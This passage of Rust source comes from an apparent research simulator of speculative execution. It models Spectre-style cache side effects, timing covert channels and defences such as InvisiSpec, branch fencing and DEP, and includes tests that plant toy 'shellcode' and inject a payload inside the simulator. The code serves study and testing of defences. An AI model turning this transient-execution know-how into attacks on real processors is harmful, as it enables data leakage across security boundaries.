                        .find(|(_, end)| *end == u64::MAX)
                    {
                        span.1 = self.cycle;
                    }
                    self.regs[Reg::R0.index()] = code;
                    Ok(Some(ret))
                } else {
                    self.stop(ExitReason::Exited(code));
                    Ok(None)
                }
            }
            sys::WRITE => {
                let ptr = self.regs[Reg::R1.index()];
                let len = self.regs[Reg::R2.index()].min(1 << 20);
                let mut buf = vec![0u8; len as usize];
                if let Err(fault) = self.mem.read(ptr, &mut buf) {
                    return Err(self.stop_fault(Fault::Mem(fault)));
                }
                self.pmu.add(HpcEvent::BytesWritten, len);
                self.stdout.extend_from_slice(&buf);
                self.regs[Reg::R0.index()] = len;
                Ok(None)
            }
            sys::EXEC => {
                let ptr = self.regs[Reg::R1.index()];
                let name_bytes = match self.mem.read_cstr(ptr, 256) {
                    Ok(b) => b,
                    Err(fault) => return Err(self.stop_fault(Fault::Mem(fault))),
                };
                let name = String::from_utf8_lossy(&name_bytes).into_owned();
                let image = match self.registry.get(&name) {
                    Some(i) => i.clone(),
                    None => return Err(self.stop_fault(Fault::UnknownBinary { name })),
                };
                self.pmu.incr(HpcEvent::ExecCalls);
                let loaded = match self.load(&image) {
                    Ok(l) => l,
                    Err(fault) => return Err(self.stop_fault(fault)),
                };
                self.exec_returns.push(return_pc);
                self.exec_spans.push((self.cycle, u64::MAX));
                Ok(Some(loaded.entry))
            }
            sys::ABORT => Err(self.stop_fault(Fault::Abort)),
            sys::GETRAND => {
                self.regs[Reg::R0.index()] = self.rng.next_u64();
                Ok(None)
            }
            _ => Err(self.stop_fault(Fault::BadSyscall { number: nr })),
        }
    }

    // ---------------------------------------------------------------
    // Transient (speculative) execution
    // ---------------------------------------------------------------

    /// Runs transient execution at `start` for up to `budget` cycles and
    /// then squashes, exactly as an internal mispredict would — exposed
    /// for building custom transient-execution experiments and for
    /// property-testing the squash invariant.
    pub fn speculate_at(&mut self, start: u64, budget: u64) {
        self.speculate(start, budget);
    }

    /// Executes the wrong path transiently for up to `budget` cycles (and
    /// at most `spec_window` instructions), then squashes. Architectural
    /// effects are discarded; cache and PMU cache-event effects persist.
    fn speculate(&mut self, start: u64, budget: u64) {
        let mut regs = self.regs;
        // Spec-relative readiness (cycle 0 = entry into speculation).
        let mut ready = [0u64; 16];
        let mut store_buf: HashMap<u64, u8> = HashMap::new();
        let mut pc = start;
        let mut scycle: u64 = 0;
        let mut instrs: u64 = 0;
        // Spec-event counts accumulate locally and flush once at squash —
        // the PMU is only ever observed between architectural steps.
        let mut loads: u64 = 0;
        let mut stores: u64 = 0;
        let mut suppressed: u64 = 0;
        let window = self.cfg.spec_window;
        while scycle < budget && instrs < window {
            // Transient fetches still fill the instruction cache
            // (`FetchMode::Spec`); a fetch fault is suppressed, a decode
            // failure just ends the transient path.
            let instr = match self.fetch_decode(pc, FetchMode::Spec) {
                Ok(instr) => instr,
                Err(FetchFail::Mem(_)) => {
                    suppressed += 1;
                    break;
                }
                Err(FetchFail::Decode) => break,
            };
            instrs += 1;
            let mut next_pc = pc.wrapping_add(INSTR_BYTES as u64);
            let wait = |ready: &[u64; 16], rs: &[Reg]| -> u64 {
                rs.iter().map(|r| ready[r.index()]).max().unwrap_or(0)
            };
            match instr {
                Instr::Nop => {}
                Instr::Halt | Instr::MFence | Instr::Syscall | Instr::Rdtsc(_) => {
                    // Serializing or privileged: transient execution stops.
                    break;
                }
                Instr::Ldi(rd, imm) => {
                    regs[rd.index()] = imm as i64 as u64;
                    ready[rd.index()] = scycle;
                }
                Instr::Ldih(rd, imm) => {
                    let low = regs[rd.index()] & 0xffff_ffff;
                    regs[rd.index()] = ((imm as u32 as u64) << 32) | low;
                    ready[rd.index()] = scycle;
                }
                Instr::Mov(rd, rs) => {
                    scycle = scycle.max(wait(&ready, &[rs]));
                    regs[rd.index()] = regs[rs.index()];
                    ready[rd.index()] = scycle;
                }
                Instr::Alu(op, rd, rs1, rs2) => {
                    scycle = scycle.max(wait(&ready, &[rs1, rs2]));
                    regs[rd.index()] = op.apply(regs[rs1.index()], regs[rs2.index()]);
                    ready[rd.index()] = scycle + alu_latency(op);
                }
                Instr::Alui(op, rd, rs1, imm) => {
                    scycle = scycle.max(wait(&ready, &[rs1]));
                    regs[rd.index()] = op.apply(regs[rs1.index()], imm as i64 as u64);
                    ready[rd.index()] = scycle + alu_latency(op);
                }
                Instr::Ld(w, rd, rs1, imm) => {
                    scycle = scycle.max(wait(&ready, &[rs1]));
                    let addr = regs[rs1.index()].wrapping_add(imm as i64 as u64);
                    match self.spec_load(addr, w, &store_buf) {
                        Some((value, latency)) => {
                            loads += 1;
                            regs[rd.index()] = value;
                            ready[rd.index()] = scycle + latency;
                        }
                        None => {
                            suppressed += 1;
                            break;
                        }
                    }
                }
                Instr::St(w, rs1, rs2, imm) => {
                    scycle = scycle.max(wait(&ready, &[rs1, rs2]));
                    let addr = regs[rs1.index()].wrapping_add(imm as i64 as u64);
                    // Buffered byte-wise; never reaches memory.
                    let value = regs[rs2.index()];
                    for (i, b) in value.to_le_bytes()[..w.bytes()].iter().enumerate() {
                        store_buf.insert(addr.wrapping_add(i as u64), *b);
                    }
                    // The line is still brought into the cache (RFO) —
                    // unless InvisiSpec keeps speculation invisible.
                    if !self.cfg.protect.invisispec {
                        self.data_access(addr, true);
                    }
                    stores += 1;
                }
                Instr::Br(cond, rs1, rs2, imm) => {
                    // Inside speculation we simply follow the (possibly
                    // nested) prediction; everything is squashed anyway.
                    let predicted = self.pred.pht.predict(pc);
                    let _ = cond;
                    let _ = (rs1, rs2);
                    if predicted {
                        next_pc = pc.wrapping_add(imm as i64 as u64);
                    }
                }
                Instr::Jmp(imm) => {
                    next_pc = pc.wrapping_add(imm as i64 as u64);
                }
                Instr::JmpR(rs) => {
                    scycle = scycle.max(wait(&ready, &[rs]));
                    next_pc = regs[rs.index()];
                }
                Instr::Call(imm) => {
                    let ret = next_pc;
                    let sp = regs[Reg::SP.index()].wrapping_sub(8);
                    for (i, b) in ret.to_le_bytes().iter().enumerate() {
                        store_buf.insert(sp.wrapping_add(i as u64), *b);
                    }
                    regs[Reg::SP.index()] = sp;
                    next_pc = pc.wrapping_add(imm as i64 as u64);
                }
                Instr::CallR(rs) => {
                    scycle = scycle.max(wait(&ready, &[rs]));
                    let ret = next_pc;
                    let sp = regs[Reg::SP.index()].wrapping_sub(8);
                    for (i, b) in ret.to_le_bytes().iter().enumerate() {
                        store_buf.insert(sp.wrapping_add(i as u64), *b);
                    }
                    regs[Reg::SP.index()] = sp;
                    next_pc = regs[rs.index()];
                }
                Instr::Ret => {
                    let sp = regs[Reg::SP.index()];
                    match self.spec_load(sp, Width::D, &store_buf) {
                        Some((target, latency)) => {
                            regs[Reg::SP.index()] = sp.wrapping_add(8);
                            scycle += latency;
                            next_pc = target;
                        }
                        None => {
                            suppressed += 1;
                            break;
                        }
                    }
                }
                Instr::Push(rs) => {
                    scycle = scycle.max(wait(&ready, &[rs]));
                    let sp = regs[Reg::SP.index()].wrapping_sub(8);
                    for (i, b) in regs[rs.index()].to_le_bytes().iter().enumerate() {
                        store_buf.insert(sp.wrapping_add(i as u64), *b);
                    }
                    regs[Reg::SP.index()] = sp;
                }
                Instr::Pop(rd) => {
                    let sp = regs[Reg::SP.index()];
                    match self.spec_load(sp, Width::D, &store_buf) {
                        Some((value, latency)) => {
                            regs[rd.index()] = value;
                            regs[Reg::SP.index()] = sp.wrapping_add(8);
                            ready[rd.index()] = scycle + latency;
                        }
                        None => {
                            suppressed += 1;
                            break;
                        }
                    }
                }
                Instr::ClFlush(rs1, imm) => {
                    if !self.cfg.protect.clflush_enabled {
                        break;
                    }
                    scycle = scycle.max(wait(&ready, &[rs1]));
                    // Flushes are microarchitectural: they persist.
                    let addr = regs[rs1.index()].wrapping_add(imm as i64 as u64);
                    self.apply_pending_ifetches();
                    self.apply_pending_dfetches();
                    self.caches.flush_line(addr);
                }
            }
            scycle += 1;
            pc = next_pc;
        }
        if instrs >= window {
            self.pmu.incr(HpcEvent::SpecWindowExhausted);
        }
        self.pmu.add(HpcEvent::SpecInstrs, instrs);
        self.pmu.add(HpcEvent::SpecLoads, loads);
        self.pmu.add(HpcEvent::SpecStores, stores);
        self.pmu.add(HpcEvent::SpecFaultsSuppressed, suppressed);
        self.pmu.incr(HpcEvent::SpecSquashes);
        // A squash is a public boundary (`speculate_at`), so the batched
        // L1i counts must land now, not at the next architectural step.
        self.flush_pending_counters();
        // Squash: regs/ready/store_buf are dropped; cache + PMU persist.
    }

    /// Transient load: permission-checked (fault → `None`, suppressed),
    /// store-buffer forwarded, cache-filling — unless InvisiSpec routes
    /// it through the speculative buffer, leaving no cache footprint.
    fn spec_load(&mut self, addr: u64, width: Width, store_buf: &HashMap<u64, u8>) -> Option<(u64, u64)> {
        let n = width.bytes();
        let mut bytes = [0u8; 8];
        self.mem.read(addr, &mut bytes[..n]).ok()?;
        for (i, b) in bytes[..n].iter_mut().enumerate() {
            if let Some(&sb) = store_buf.get(&addr.wrapping_add(i as u64)) {
                *b = sb;
            }
        }
        let value = u64::from_le_bytes(bytes);
        if self.cfg.protect.invisispec {
            // Invisible speculation: same timing, no state change, no
            // counter-visible cache events.
            let result = self.caches.probe_data_latency(addr);
            return Some((value, result.latency));
        }
        // The microarchitectural side effect that makes Spectre work.
        let result = self.data_access(addr, false);
        Some((value, result.latency))
    }
}

/// Extra cycles between operand readiness and branch resolution
/// (execute/retire pipeline depth).
const BRANCH_RESOLVE_EXTRA: u64 = 24;

/// Fixed cost of the syscall trap.
const SYSCALL_COST: u64 = 50;

fn alu_latency(op: AluOp) -> u64 {
    match op {
        AluOp::Mul => 3,
        AluOp::Divu | AluOp::Remu => 12,
        _ => 1,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::image::{Image, ImageSegment};

    fn image_from(instrs: &[Instr]) -> Image {
        let bytes: Vec<u8> = instrs.iter().flat_map(|i| i.encode()).collect();
        Image::new(
            "test",
            vec![ImageSegment { name: ".text".into(), kind: SegKind::Text, offset: 0, bytes }],
            0,
        )
    }

    fn run_program(instrs: &[Instr]) -> (Machine, RunOutcome) {
        let mut m = Machine::new(MachineConfig::default());
        let li = m.load(&image_from(instrs)).unwrap();
        m.start(li.entry);
        let outcome = m.run();
        (m, outcome)
    }

    #[test]
    fn arithmetic_program() {
        let (m, out) = run_program(&[
            Instr::Ldi(Reg::R1, 6),
            Instr::Ldi(Reg::R2, 7),
            Instr::Alu(AluOp::Mul, Reg::R3, Reg::R1, Reg::R2),
            Instr::Alui(AluOp::Add, Reg::R3, Reg::R3, 100),
            Instr::Halt,
        ]);
        assert!(out.exit.is_clean());
        assert_eq!(m.reg(Reg::R3), 142);
        assert_eq!(out.instructions, 5);
        assert!(out.cycles >= 5);
    }

    #[test]
    fn loads_and_stores() {
        let mut m = Machine::new(MachineConfig::default());
        let buf = m.alloc(PAGE_SIZE, Perms::RW);
        let li = m
            .load(&image_from(&[
                Instr::Ldi(Reg::R1, buf as i32),
                Instr::Ldi(Reg::R2, 0x5a),
                Instr::St(Width::B, Reg::R1, Reg::R2, 3),
                Instr::Ld(Width::B, Reg::R3, Reg::R1, 3),
                Instr::Halt,
            ]))
            .unwrap();
        m.start(li.entry);
        assert!(m.run().exit.is_clean());
        assert_eq!(m.reg(Reg::R3), 0x5a);
        assert_eq!(m.mem().read_u8(buf + 3).unwrap(), 0x5a);
    }

    #[test]
    fn branch_loop_counts_events() {
        // for (r1 = 0; r1 != 10; r1++) {}
        let (m, out) = run_program(&[
            Instr::Ldi(Reg::R1, 0),
            Instr::Ldi(Reg::R2, 10),
            // loop:
            Instr::Alui(AluOp::Add, Reg::R1, Reg::R1, 1),
            Instr::Br(crate::isa::BranchCond::Ne, Reg::R1, Reg::R2, -8),
            Instr::Halt,
        ]);
        assert!(out.exit.is_clean());
        assert_eq!(m.reg(Reg::R1), 10);
        assert_eq!(m.pmu().count(HpcEvent::CondBranches), 10);
        assert!(m.pmu().count(HpcEvent::BranchMispredicts) >= 1);
        assert!(m.pmu().count(HpcEvent::BranchMispredicts) <= 4);
    }

    #[test]
    fn call_ret_round_trip() {
        let (m, out) = run_program(&[
            Instr::Call(3 * INSTR_BYTES as i32), // call f (skips next 2)
            Instr::Ldi(Reg::R2, 99),             // after return
            Instr::Halt,
            // f:
            Instr::Ldi(Reg::R1, 41),
            Instr::Alui(AluOp::Add, Reg::R1, Reg::R1, 1),
            Instr::Ret,
        ]);
        assert!(out.exit.is_clean());
        assert_eq!(m.reg(Reg::R1), 42);
        assert_eq!(m.reg(Reg::R2), 99);
        assert_eq!(m.pmu().count(HpcEvent::Calls), 1);
        assert_eq!(m.pmu().count(HpcEvent::Returns), 1);
        assert_eq!(
            m.pmu().count(HpcEvent::RsbMispredicts),
            0,
            "a matched call/ret predicts perfectly"
        );
    }

    #[test]
    fn dep_blocks_stack_execution() {
        // Jump to the stack: fetch must fault under DEP.
        let mut m = Machine::new(MachineConfig::default());
        let (_, hi) = m.stack_range();
        let li = m
            .load(&image_from(&[
                Instr::Ldi(Reg::R1, (hi - 4096) as i32),
                Instr::JmpR(Reg::R1),
                Instr::Halt,
            ]))
            .unwrap();
        m.start(li.entry);
        let out = m.run();
        match out.exit {
            ExitReason::Fault(Fault::Mem(f)) => {
                assert_eq!(f.kind, crate::mem::AccessKind::Fetch)
            }
            other => panic!("expected DEP fetch fault, got {other:?}"),
        }
    }

    #[test]
    fn dep_disabled_allows_stack_execution() {
        let mut cfg = MachineConfig::default();
        cfg.protect.dep = false;
        let mut m = Machine::new(cfg);
        let (_, hi) = m.stack_range();
        let code_addr = hi - 4096;
        let li = m
            .load(&image_from(&[
                Instr::Ldi(Reg::R1, code_addr as i32),
                Instr::JmpR(Reg::R1),
            ]))
            .unwrap();
        // Plant shellcode on the stack.
        let shell: Vec<u8> = [Instr::Ldi(Reg::R5, 123), Instr::Halt]
            .iter()
            .flat_map(|i| i.encode())
            .collect();
        m.mem_mut().poke(code_addr, &shell);
        m.start(li.entry);
        let out = m.run();
        assert!(out.exit.is_clean());
        assert_eq!(m.reg(Reg::R5), 123);
    }

    #[test]
    fn syscall_write_and_exit() {
        let mut m = Machine::new(MachineConfig::default());
        let buf = m.alloc(PAGE_SIZE, Perms::RW);
        m.mem_mut().poke(buf, b"hi");
        let li = m
            .load(&image_from(&[
                Instr::Ldi(Reg::R0, sys::WRITE as i32),
                Instr::Ldi(Reg::R1, buf as i32),
                Instr::Ldi(Reg::R2, 2),
                Instr::Syscall,
                Instr::Ldi(Reg::R0, sys::EXIT as i32),
                Instr::Ldi(Reg::R1, 0),
                Instr::Syscall,
            ]))
            .unwrap();
        m.start(li.entry);
        let out = m.run();
        assert_eq!(out.exit, ExitReason::Exited(0));
        assert_eq!(m.stdout(), b"hi");
    }

    #[test]
    fn exec_injects_registered_binary_and_returns() {
        let mut m = Machine::new(MachineConfig::default());
        // Injected binary: set r5, then exit(7).
        let mut payload = image_from(&[
            Instr::Ldi(Reg::R5, 1234),
            Instr::Ldi(Reg::R0, sys::EXIT as i32),
            Instr::Ldi(Reg::R1, 7),
            Instr::Syscall,
        ]);
        payload.name = "payload".into();
        m.register_image(payload);
        let name_buf = m.alloc(PAGE_SIZE, Perms::RW);
        m.mem_mut().poke(name_buf, b"payload\0");
        let li = m
            .load(&image_from(&[
                Instr::Ldi(Reg::R0, sys::EXEC as i32),
                Instr::Ldi(Reg::R1, name_buf as i32),
                Instr::Syscall,
                Instr::Ldi(Reg::R6, 1), // resumed after injected exit
                Instr::Halt,
            ]))
            .unwrap();
        m.start(li.entry);
        let out = m.run();
        assert!(out.exit.is_clean());
        assert_eq!(m.reg(Reg::R5), 1234, "injected code ran");
        assert_eq!(m.reg(Reg::R6), 1, "host resumed after injection");
        assert_eq!(m.reg(Reg::R0), 7, "injected exit code returned");
        assert_eq!(m.pmu().count(HpcEvent::ExecCalls), 1);
    }

    #[test]
    fn exec_unknown_binary_faults() {
        let mut m = Machine::new(MachineConfig::default());
        let name_buf = m.alloc(PAGE_SIZE, Perms::RW);
        m.mem_mut().poke(name_buf, b"ghost\0");
        let li = m
            .load(&image_from(&[
                Instr::Ldi(Reg::R0, sys::EXEC as i32),
                Instr::Ldi(Reg::R1, name_buf as i32),
                Instr::Syscall,
            ]))
            .unwrap();
        m.start(li.entry);
        match m.run().exit {
            ExitReason::Fault(Fault::UnknownBinary { name }) => assert_eq!(name, "ghost"),
            other => panic!("expected unknown-binary fault, got {other:?}"),
        }
    }

    #[test]
    fn rdtsc_measures_cache_miss_vs_hit() {
        // t1; load (miss); mfence; t2; load (hit); mfence; t3
        let mut m = Machine::new(MachineConfig::default());
        let buf = m.alloc(PAGE_SIZE, Perms::RW);
        let li = m
            .load(&image_from(&[
                Instr::Ldi(Reg::R1, buf as i32),
                Instr::Rdtsc(Reg::R2),
                Instr::Ld(Width::B, Reg::R5, Reg::R1, 0),
                Instr::MFence,
                Instr::Rdtsc(Reg::R3),
                Instr::Ld(Width::B, Reg::R5, Reg::R1, 0),
                Instr::MFence,
                Instr::Rdtsc(Reg::R4),
                Instr::Halt,
            ]))
            .unwrap();
        m.start(li.entry);
        assert!(m.run().exit.is_clean());
        let miss_time = m.reg(Reg::R3) - m.reg(Reg::R2);
        let hit_time = m.reg(Reg::R4) - m.reg(Reg::R3);
        assert!(
            miss_time > hit_time + 100,
            "miss {miss_time} vs hit {hit_time}: the covert channel gap must be large"
        );
    }

    #[test]
    fn clflush_disabled_countermeasure_faults() {
        let mut cfg = MachineConfig::default();
        cfg.protect.clflush_enabled = false;
        let mut m = Machine::new(cfg);
        let li = m
            .load(&image_from(&[Instr::ClFlush(Reg::R1, 0), Instr::Halt]))
            .unwrap();
        m.start(li.entry);
        assert_eq!(m.run().exit, ExitReason::Fault(Fault::ClflushDisabled));
    }

    /// Plants `instrs` in an RX heap page and returns their address.
    fn plant_code(m: &mut Machine, instrs: &[Instr]) -> u64 {
        let bytes: Vec<u8> = instrs.iter().flat_map(|i| i.encode()).collect();
        let addr = m.alloc(PAGE_SIZE, Perms::RW);
        m.mem_mut().poke(addr, &bytes);
        m.mem_mut().set_perms(addr, PAGE_SIZE, Perms::RX);
        addr
    }

    #[test]
    fn transient_cache_fill_persists_after_squash() {
        let mut m = Machine::new(MachineConfig::default());
        let probe = m.alloc(PAGE_SIZE, Perms::RW);
        let code = plant_code(&mut m, &[Instr::Ld(Width::B, Reg::R9, Reg::R6, 0), Instr::Halt]);
        m.caches_mut().flush_line(probe);
        assert!(!m.caches().data_resident(probe));
        m.set_reg(Reg::R6, probe);
        let r9_before = m.reg(Reg::R9);
        m.speculate(code, 400);
        assert!(m.caches().data_resident(probe), "transient fill persists");
        assert_eq!(m.reg(Reg::R9), r9_before, "architectural state restored");
        assert!(m.pmu().count(HpcEvent::SpecLoads) >= 1);
        assert_eq!(m.pmu().count(HpcEvent::SpecSquashes), 1);
    }

    #[test]
    fn invisispec_leaves_no_transient_cache_footprint() {
        let mut cfg = MachineConfig::default();
        cfg.protect.invisispec = true;
        let mut m = Machine::new(cfg);
        let probe = m.alloc(PAGE_SIZE, Perms::RW);
        let code = plant_code(&mut m, &[Instr::Ld(Width::B, Reg::R9, Reg::R6, 0), Instr::Halt]);
        m.set_reg(Reg::R6, probe);
        m.speculate(code, 400);
        assert!(
            !m.caches().data_resident(probe),
            "InvisiSpec: speculative loads must not fill the cache"
        );
        assert!(m.pmu().count(HpcEvent::SpecLoads) >= 1, "the load still executed");
        assert_eq!(
            m.pmu().count(HpcEvent::TotalCacheMiss),
            0,
            "and left no counter-visible cache event"
        );
    }

    #[test]
    fn invisispec_charges_load_validation() {
        let run_load_chain = |invisispec: bool| {
            let mut cfg = MachineConfig::default();
            cfg.protect.invisispec = invisispec;
            let mut m = Machine::new(cfg);
            let buf = m.alloc(PAGE_SIZE, Perms::RW);
            let li = m
                .load(&image_from(&[
                    Instr::Ldi(Reg::R1, buf as i32),
                    // Dependent load chain: each consumer waits.
                    Instr::Ld(Width::D, Reg::R2, Reg::R1, 0),
                    Instr::Alu(AluOp::Add, Reg::R3, Reg::R2, Reg::R2),
                    Instr::Ld(Width::D, Reg::R4, Reg::R1, 8),
                    Instr::Alu(AluOp::Add, Reg::R5, Reg::R4, Reg::R4),
                    Instr::Halt,
                ]))
                .unwrap();
            m.start(li.entry);
            m.run().cycles
        };
        assert!(
            run_load_chain(true) > run_load_chain(false),
            "InvisiSpec validation must cost cycles"
        );
    }

    #[test]
    fn csf_serializes_branches_and_fences_speculation() {
        let run = |csf: bool| {
            let mut cfg = MachineConfig::default();
            cfg.protect.csf = csf;
            let mut m = Machine::new(cfg);
            let li = m
                .load(&image_from(&[
                    Instr::Ldi(Reg::R1, 0),
                    Instr::Ldi(Reg::R2, 50),
                    Instr::Alui(AluOp::Add, Reg::R1, Reg::R1, 1),
                    Instr::Br(crate::isa::BranchCond::Ne, Reg::R1, Reg::R2, -8),
                    Instr::Halt,
                ]))
                .unwrap();
            m.start(li.entry);
            let out = m.run();
            (out.cycles, m.pmu().count(HpcEvent::Fences), m.pmu().count(HpcEvent::SpecInstrs))
        };
        let (base_cycles, base_fences, _) = run(false);
        let (csf_cycles, csf_fences, csf_spec) = run(true);
        assert!(csf_cycles > base_cycles, "fencing every branch costs cycles");
        assert_eq!(csf_fences, base_fences + 50, "one injected fence per branch");
        assert_eq!(csf_spec, 0, "no transient execution past a fence");
    }

    #[test]
    fn transient_stores_never_reach_memory() {
        let mut m = Machine::new(MachineConfig::default());
        let buf = m.alloc(PAGE_SIZE, Perms::RW);
        m.mem_mut().write_u64(buf, 0x1111).unwrap();
        let code = plant_code(
            &mut m,
            &[
                Instr::Ldi(Reg::R1, buf as i32),
                Instr::Ldi(Reg::R2, 0x2222),
                Instr::St(Width::D, Reg::R1, Reg::R2, 0),
                // A transient load observes the buffered store...
                Instr::Ld(Width::D, Reg::R3, Reg::R1, 0),
                Instr::Halt,
            ],
        );
        m.speculate(code, 1000);
        // ...but memory keeps the architectural value.
        assert_eq!(m.mem().read_u64(buf).unwrap(), 0x1111);
        assert!(m.pmu().count(HpcEvent::SpecStores) >= 1);
    }

    #[test]
    fn speculation_suppresses_faults() {
        let mut m = Machine::new(MachineConfig::default());
        let bytes: Vec<u8> = [Instr::Ld(Width::B, Reg::R9, Reg::R6, 0), Instr::Halt]
            .iter()
            .flat_map(|i| i.encode())
            .collect();
        let addr = m.alloc(PAGE_SIZE, Perms::RW);
        m.mem_mut().poke(addr, &bytes);
        m.mem_mut().set_perms(addr, PAGE_SIZE, Perms::RX);
        m.set_reg(Reg::R6, 0); // guard page: architecturally fatal
        m.speculate(addr, 100);
        assert!(m.exit_reason().is_none(), "machine keeps running");
        assert_eq!(m.pmu().count(HpcEvent::SpecFaultsSuppressed), 1);
    }

    #[test]
    fn speculation_respects_budget() {
        let mut m = Machine::new(MachineConfig::default());
        // An infinite transient loop must stop at the window cap.
        let bytes: Vec<u8> = [Instr::Jmp(0)].iter().flat_map(|i| i.encode()).collect();
        let addr = m.alloc(PAGE_SIZE, Perms::RW);
        m.mem_mut().poke(addr, &bytes);
        m.mem_mut().set_perms(addr, PAGE_SIZE, Perms::RX);
        m.speculate(addr, u64::MAX);
        assert_eq!(
            m.pmu().count(HpcEvent::SpecInstrs),
            m.config().spec_window,
            "window caps transient depth"
        );
        assert_eq!(m.pmu().count(HpcEvent::SpecWindowExhausted), 1);
    }

    #[test]
    fn max_instruction_budget_faults() {
        let cfg = MachineConfig { max_instructions: 10, ..MachineConfig::default() };
        let mut m = Machine::new(cfg);
        let li = m.load(&image_from(&[Instr::Jmp(0)])).unwrap();
        m.start(li.entry);
        assert_eq!(m.run().exit, ExitReason::Fault(Fault::MaxInstructions));
    }

    #[test]
    fn aslr_slides_images() {
        let base_of = |seed: Option<u64>| {
            let mut cfg = MachineConfig::default();
            cfg.protect.aslr_seed = seed;
            cfg.seed = seed.unwrap_or(1);
            let mut m = Machine::new(cfg);
            m.load(&image_from(&[Instr::Halt])).unwrap().base
        };
        assert_eq!(base_of(None), IMAGE_BASE);
        let a = base_of(Some(11));
        let b = base_of(Some(1234567));
        assert_ne!(a, b, "different seeds give different bases");
        assert_eq!(a % PAGE_SIZE, 0);
    }

    #[test]
    fn stack_is_below_guard_page() {
        let m = Machine::new(MachineConfig::default());
        let (lo, hi) = m.stack_range();
        assert!(hi > lo);
        assert_eq!(m.mem().perms_at(hi), Perms::NONE, "top guard page");
        assert!(m.mem().perms_at(hi - 1).w);
    }

    #[test]
    fn getrand_syscall() {
        let (m, out) = {
            let mut m = Machine::new(MachineConfig::default());
            let li = m
                .load(&image_from(&[
                    Instr::Ldi(Reg::R0, sys::GETRAND as i32),
                    Instr::Syscall,
                    Instr::Mov(Reg::R7, Reg::R0),
                    Instr::Halt,
                ]))
                .unwrap();
            m.start(li.entry);
            let out = m.run();
            (m, out)
        };
        assert!(out.exit.is_clean());
        assert_ne!(m.reg(Reg::R7), 0);
    }

    #[test]
    fn run_traced_records_executed_instructions() {
        let mut m = Machine::new(MachineConfig::default());
        let li = m
            .load(&image_from(&[
                Instr::Ldi(Reg::R1, 1),
                Instr::Ldi(Reg::R2, 2),
                Instr::Halt,
            ]))
            .unwrap();
        m.start(li.entry);
        let trace = m.run_traced(100);
        assert_eq!(trace.len(), 3);
        assert_eq!(trace[0], (li.entry, Instr::Ldi(Reg::R1, 1)));
        assert_eq!(trace[2].1, Instr::Halt);
        // Limit is respected.
        let mut m2 = Machine::new(MachineConfig::default());
        let li2 = m2.load(&image_from(&[Instr::Jmp(0)])).unwrap();
        m2.start(li2.entry);
        assert_eq!(m2.run_traced(5).len(), 5);
    }

    #[test]
    fn ipc_is_plausible() {
        // A tight ALU loop should retire near 1 instruction per cycle.
        let (_, out) = run_program(&[
            Instr::Ldi(Reg::R1, 0),
            Instr::Ldi(Reg::R2, 1000),
            Instr::Alui(AluOp::Add, Reg::R1, Reg::R1, 1),
            Instr::Br(crate::isa::BranchCond::Ne, Reg::R1, Reg::R2, -8),
            Instr::Halt,
        ]);
        let ipc = out.ipc();
        assert!(ipc > 0.5 && ipc <= 1.5, "ALU loop IPC {ipc}");
    }
}

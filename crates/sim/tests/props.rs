//! Property-based tests of the simulator's core invariants.

use proptest::prelude::*;

use cr_spectre_sim::branch::{Counter, PatternHistoryTable, ReturnStackBuffer};
use cr_spectre_sim::cache::{Cache, CacheConfig, CacheHierarchy, HierarchyConfig};
use cr_spectre_sim::config::MachineConfig;
use cr_spectre_sim::cpu::Machine;
use cr_spectre_sim::image::{Image, ImageSegment, SegKind};
use cr_spectre_sim::isa::{AluOp, Instr, Reg};
use cr_spectre_sim::mem::{Memory, Perms, PAGE_SIZE};
use cr_spectre_sim::pmu::{HpcEvent, Pmu};

proptest! {
    /// ALU operations match Rust's wrapping semantics for all inputs.
    #[test]
    fn alu_matches_wrapping_semantics(a in any::<u64>(), b in any::<u64>()) {
        prop_assert_eq!(AluOp::Add.apply(a, b), a.wrapping_add(b));
        prop_assert_eq!(AluOp::Sub.apply(a, b), a.wrapping_sub(b));
        prop_assert_eq!(AluOp::Mul.apply(a, b), a.wrapping_mul(b));
        prop_assert_eq!(AluOp::And.apply(a, b), a & b);
        prop_assert_eq!(AluOp::Or.apply(a, b), a | b);
        prop_assert_eq!(AluOp::Xor.apply(a, b), a ^ b);
        prop_assert_eq!(AluOp::Shl.apply(a, b), a << (b & 63));
        prop_assert_eq!(AluOp::Shr.apply(a, b), a >> (b & 63));
        prop_assert_eq!(AluOp::Sar.apply(a, b), ((a as i64) >> (b & 63)) as u64);
        if b != 0 {
            prop_assert_eq!(AluOp::Divu.apply(a, b), a / b);
            prop_assert_eq!(AluOp::Remu.apply(a, b), a % b);
        }
    }

    /// Decoding any 8 bytes either fails or re-encodes to canonical bytes
    /// that decode to the same instruction (idempotent canonicalization).
    #[test]
    fn decode_is_canonical(bytes in proptest::array::uniform8(any::<u8>())) {
        if let Ok(instr) = Instr::decode(&bytes) {
            let reencoded = instr.encode();
            prop_assert_eq!(Instr::decode(&reencoded).unwrap(), instr);
        }
    }

    /// The 2-bit counter never leaves its four states and saturates.
    #[test]
    fn counter_is_total(updates in proptest::collection::vec(any::<bool>(), 0..64)) {
        let mut c = Counter::WeakNot;
        for taken in updates {
            c = c.update(taken);
        }
        // Two consecutive same-direction updates always agree afterwards.
        let c2 = c.update(true).update(true);
        prop_assert!(c2.taken());
        let c3 = c.update(false).update(false);
        prop_assert!(!c3.taken());
    }

    /// PHT predictions converge after enough same-direction training, for
    /// any pc and any prior history.
    #[test]
    fn pht_converges(pc in any::<u64>(), history in proptest::collection::vec(any::<bool>(), 0..32)) {
        let mut pht = PatternHistoryTable::new(256);
        for h in history {
            pht.update(pc, h);
        }
        for _ in 0..2 {
            pht.update(pc, true);
        }
        prop_assert!(pht.predict(pc));
    }

    /// The RSB is LIFO for any push sequence within capacity.
    #[test]
    fn rsb_is_lifo(addrs in proptest::collection::vec(any::<u64>(), 1..16)) {
        let mut rsb = ReturnStackBuffer::new(16);
        for &a in &addrs {
            rsb.push(a);
        }
        for &a in addrs.iter().rev() {
            prop_assert_eq!(rsb.pop(), Some(a));
        }
        prop_assert_eq!(rsb.pop(), None);
    }

    /// A cache access makes exactly that line resident; same-line
    /// addresses agree, different-line addresses are unaffected unless
    /// they conflict by eviction.
    #[test]
    fn cache_line_granularity(addr in 0u64..(1 << 30)) {
        let mut c = Cache::new(CacheConfig::l1d());
        c.access(addr);
        let line = addr & !63;
        prop_assert!(c.probe(line));
        prop_assert!(c.probe(line + 63));
        prop_assert!(!c.probe(line ^ 64), "the adjacent line must stay cold");
    }

    /// Hierarchy latencies are monotone: L1 hit ≤ L2 hit ≤ memory, and
    /// a repeat access is never slower.
    #[test]
